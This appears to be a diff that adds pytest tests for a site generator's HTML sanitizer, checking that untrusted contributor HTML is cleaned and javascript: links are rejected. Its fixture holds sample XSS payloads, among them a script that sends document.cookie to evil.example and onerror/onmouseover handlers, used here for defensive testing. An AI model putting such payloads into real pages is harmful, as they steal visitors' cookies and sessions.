@@ -1,0 +1,60 @@
+"""untrusted_html: sanitize — bodies from outside contributors are cleaned, embeds from allowed hosts kept."""
+
+from bs4 import BeautifulSoup
+from conftest import SITE_YAML, explainer, messages, parse, run_build
+
+from generator.sanitize import sanitize_html, unsafe_urls
+
+HOSTILE = """\
+Intro <span onmouseover="steal()">hover</span>.
+
+<script>document.location='https://evil.example/?'+document.cookie</script>
+
+<figure class="embed"><iframe src="https://www.youtube.com/embed/abc" title="Video"></iframe></figure>
+
+<iframe src="https://evil.example/frame" title="Evil"></iframe>
+
+<img src="x.png" onerror="steal()" alt="x">
+
+## What is safe?
+
+| a | b |
+|---|---|
+| 1 | 2 |
+"""
+
+
+def test_sanitize_keeps_explainer_markup_and_drops_the_rest():
+    html = sanitize_html(HOSTILE.replace("\n", " "), ["www.youtube.com"])
+    soup = BeautifulSoup(html, "html.parser")
+    assert soup.find("script") is None
+    assert all(not attr.startswith("on") for tag in soup.find_all(True) for attr in tag.attrs)
+    frames = [f.get("src") for f in soup.find_all("iframe")]
+    assert frames == ["https://www.youtube.com/embed/abc", None]
+
+
+def test_unsafe_url_finder():
+    assert unsafe_urls("[a](javascript:x)\n<a href='data:text/html,x'>\n[b](https://ok)\n") == [
+        (0, "javascript"), (1, "data")]
+
+
+def test_a_sanitized_site_builds_clean_pages_and_refuses_javascript_links(make_site):
+    site_yaml = SITE_YAML + "untrusted_html: sanitize\n"
+    root = make_site({"content/a.md": explainer("A", HOSTILE)}, site_yaml)
+    result = run_build(root)
+    assert result.ok, messages(result)
+    page = parse(root / "output/a/index.html")
+    body = page.find("main")
+    assert body.find("script") is None and body.find("iframe", src="https://www.youtube.com/embed/abc")
+    assert all(not a.startswith("on") for tag in body.find_all(True) for a in tag.attrs)
+    assert body.find("section", class_="question").find("h2")["id"] == "what-is-safe"
+    assert body.find("table") is not None
+    (root / "content/b.md").write_text(explainer("B", "[x](javascript:alert(1))\n"))
+    result = run_build(root)
+    assert not result.ok
+    assert any(m.startswith("content/b.md:5: error: a javascript: URL") for m in messages(result))
+
+
+def test_policy_setting_is_validated(make_site):
+    root = make_site({"content/a.md": explainer("A")}, SITE_YAML + "untrusted_html: maybe\n")
+    assert "'untrusted_html' must be trust or sanitize" in "\n".join(messages(run_build(root)))
